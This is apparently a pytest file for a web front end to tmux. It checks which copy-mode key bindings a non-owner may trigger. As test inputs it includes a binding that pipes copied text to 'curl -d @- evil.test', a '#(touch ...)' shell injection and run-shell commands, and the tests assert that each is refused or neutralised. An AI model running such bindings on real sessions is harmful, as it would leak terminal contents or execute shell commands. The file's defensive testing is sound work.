"""The pure resolution of keys typed into a pane in copy mode (modekeys.py),
on `list-keys` lines recorded from tmux 3.3a's default tables."""

from __future__ import annotations

import pytest

from tmuxweb.bindings import parse_binding
from tmuxweb.errors import BadRequest, Conflict, Forbidden
from tmuxweb.modekeys import check_answer, decide, input_keys, key_table

# Recorded with `tmux -f /dev/null list-keys -T copy-mode-vi` / `-T copy-mode`.
DEFAULTS = {
    "j": "bind-key -T copy-mode-vi j                 send-keys -X cursor-down",
    "Enter": "bind-key -T copy-mode-vi Enter             send-keys -X copy-pipe-and-cancel",
    "#": 'bind-key -T copy-mode-vi \\#                send-keys -FX search-backward "#{copy_cursor_word}"',
    "/": 'bind-key -T copy-mode-vi /                 command-prompt -T search -p "(search down)" { send-keys -X search-forward "%%" }',
    "f": 'bind-key -T copy-mode-vi f                 command-prompt -1 -p "(jump forward)" { send-keys -X jump-forward "%%" }',
    ":": 'bind-key -T copy-mode-vi :                 command-prompt -p "(goto line)" { send-keys -X goto-line "%%" }',
    "1": 'bind-key -T copy-mode-vi 1                 command-prompt -N -I 1 -p (repeat) { send-keys -N "%%" }',
    "C-s": 'bind-key -T copy-mode C-s               command-prompt -i -I "#{pane_search_string}" -T search -p "(search down)" { send-keys -X search-forward-incremental "%%" }',
    "DoubleClick1Pane": "bind-key -T copy-mode DoubleClick1Pane  select-pane \\; send-keys -X select-word \\; run-shell -d 0.3 \\; send-keys -X copy-pipe-and-cancel",
}


def command_of(key: str) -> str:
    binding = parse_binding(DEFAULTS[key])
    assert binding is not None
    return binding.command


@pytest.mark.parametrize("owner", [False, True])
def test_movement_runs_for_everyone(owner: bool) -> None:
    decision = decide("j", command_of("j"), owner, no_destroy=True)
    assert decision.resolved == "send-keys -X cursor-down"
    if owner:
        assert decision.send_key and decision.x_args is None
    else:
        assert not decision.send_key and decision.x_args == "-X cursor-down"


def test_copy_pipe_runs_no_program_for_a_write_token() -> None:
    assert decide("Enter", command_of("Enter"), False, False).x_args == "-X copy-selection-and-cancel"
    hostile = 'send-keys -X copy-pipe-and-cancel "curl -d @- evil.test"'
    assert decide("y", hostile, False, False).x_args == "-X copy-selection-and-cancel"
    assert decide("y", hostile, True, False).send_key  # the owner's own binding


def test_format_arguments_are_kept_but_never_a_shell_command() -> None:
    assert decide("#", command_of("#"), False, False).x_args == "-F -X search-backward '#{copy_cursor_word}'"
    with pytest.raises(Forbidden):
        decide("#", 'send-keys -FX search-backward "#(touch /tmp/x)"', False, False)


@pytest.mark.parametrize(
    "binding",
    [
        "run-shell 'touch /tmp/x'",
        "send-keys -X pipe-and-cancel 'sh'",
        "send-keys -X cursor-down \\; run-shell x",
        "select-pane",
        "new-window",
        "send-keys -t %1 -X cursor-down",
        "send-keys Enter",
    ],
)
def test_anything_else_needs_the_owner(binding: str) -> None:
    with pytest.raises(Forbidden, match="owner"):
        decide("x", binding, False, False)
    assert decide("x", binding, True, False).send_key


@pytest.mark.parametrize(
    "binding",
    [
        "confirm-before -p 'kill?' kill-pane",
        "display-menu -T x a a 'run-shell x'",
        "display-popup -E htop",
        "wait-for channel",
        "switch-client -n",
        "if-shell -F 1 'command-prompt -p x \"run-shell %%\"'",
        command_of("1"),
        command_of("DoubleClick1Pane").replace("run-shell -d 0.3", "command-prompt"),
    ],
)
def test_never_answered_commands_are_refused_to_the_owner_too(binding: str) -> None:
    for owner in (False, True):
        with pytest.raises(Conflict, match="not sent"):
            decide("x", binding, owner, False)


def test_kills_are_refused_to_everyone_under_no_destroy() -> None:
    for binding in ("kill-pane", "send-keys -X cancel \\; kill-window", "respawn-pane -k"):
        with pytest.raises(Forbidden, match="no-destroy"):
            decide("K", binding, True, True)
    assert decide("K", "kill-pane", True, False).send_key


@pytest.mark.parametrize(
    ("key", "command", "takes"),
    [("/", "search-forward", "text"), ("f", "jump-forward", "char"), (":", "goto-line", "line"), ("C-s", "search-forward", "text")],
)
def test_prompts_are_asked_with_their_non_interactive_form(key: str, command: str, takes: str) -> None:
    for owner in (False, True):
        ask = decide(key, command_of(key), owner, False).ask
        assert ask is not None and ask.to_json()["command"] == command and ask.to_json()["takes"] == takes
    assert decide("/", command_of("/"), False, False).ask.prompt == "(search down)"  # type: ignore[union-attr]


def test_unbound_keys_send_nothing() -> None:
    decision = decide("Z", None, False, False)
    assert not decision.send_key and decision.x_args is None and decision.ask is None


def test_key_table_follows_mode_and_mode_keys() -> None:
    assert key_table("copy-mode", "vi") == "copy-mode-vi"
    assert key_table("view-mode", "emacs") == "copy-mode"
    assert key_table("tree-mode", "vi") is None


def test_typed_bytes_become_the_key_names_a_terminal_means() -> None:
    assert input_keys("jk/") == ["j", "k", "/"]
    assert input_keys("\r\t\x7f\x1b \x00") == ["Enter", "Tab", "BSpace", "M-Space", "C-Space"]
    assert input_keys("\x1b[A\x1bOB\x1b[1;5C\x1b[5~\x1b[6;3~\x1b[Z\x1bOP") == [
        "Up", "Down", "C-Right", "PPage", "M-NPage", "BTab", "F1",
    ]
    assert input_keys("\x01\x17\x1bw\x1b") == ["C-a", "C-w", "M-w", "Escape"]
    assert input_keys("é✓") == ["é", "✓"]
    for bad in ("\x1b[9;9;9A", "\x1b[99~", "\x85"):
        with pytest.raises(BadRequest):
            input_keys(bad)


def test_prompt_answers_are_validated() -> None:
    assert check_answer("search-forward", "a'b\"c;d") == ("search-forward", "a'b\"c;d")
    assert check_answer("jump-forward", "é") == ("jump-forward", "é")
    assert check_answer("goto-line", "42") == ("goto-line", "42")
    for command, text in [
        ("run-shell", "x"), ("search-forward", ""), ("search-forward", "x" * 201),
        ("search-forward", "a\nb"), ("jump-forward", "ab"), ("goto-line", "4 2"), ("goto-line", "٤"),
    ]:
        with pytest.raises(BadRequest):
            check_answer(command, text)
